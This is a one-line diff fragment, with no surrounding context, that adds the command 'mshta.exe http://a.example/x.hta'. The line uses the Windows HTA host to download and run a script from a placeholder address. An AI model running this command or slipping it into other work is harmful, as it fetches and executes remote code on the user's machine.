@@ -1,0 +1,1 @@
+mshta.exe http://a.example/x.hta
